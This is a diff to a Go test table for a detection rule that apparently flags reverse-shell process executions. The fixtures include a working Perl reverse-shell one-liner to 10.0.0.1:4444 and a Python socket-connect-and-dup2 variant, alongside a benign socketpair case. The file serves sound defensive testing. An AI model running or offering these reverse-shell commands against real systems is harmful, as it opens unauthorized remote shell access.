@@ -720,6 +720,14 @@ func TestRules(t *testing.T) {
 			return evs(execEv(proc(170, "/usr/bin/perl", "perl", "-MIO::Socket::INET", "-e",
 				`$s=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4444");open(STDIN,">&",$s);exec("/bin/sh -i")`), side("x")))
 		}, true, event.SevHigh},
+		{"variant VB6: python socketpair worker with subprocess", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(171, "/usr/bin/python3.11", "python3", "-c",
+				"import socket, subprocess\na, b = socket.socketpair()\nsubprocess.call([\"/bin/cat\"], stdin=b, stdout=b)"), infer("vb6")))
+		}, false, 0},
+		{"socketpair and a real socket.socket with dup2", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(171, "/usr/bin/python3.11", "python3", "-c",
+				"import socket,os;p=socket.socketpair();s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0)"), side("x")))
+		}, true, event.SevHigh},
 		{"pipe dup'd onto stdout", "C2-001", func() []*event.Event {
 			return evs(sysEv(proc(164, "/bin/sh"), infer("x"), event.Syscall{Name: "dup", Fd: 4, Fd2: 1}))
 		}, false, 0},
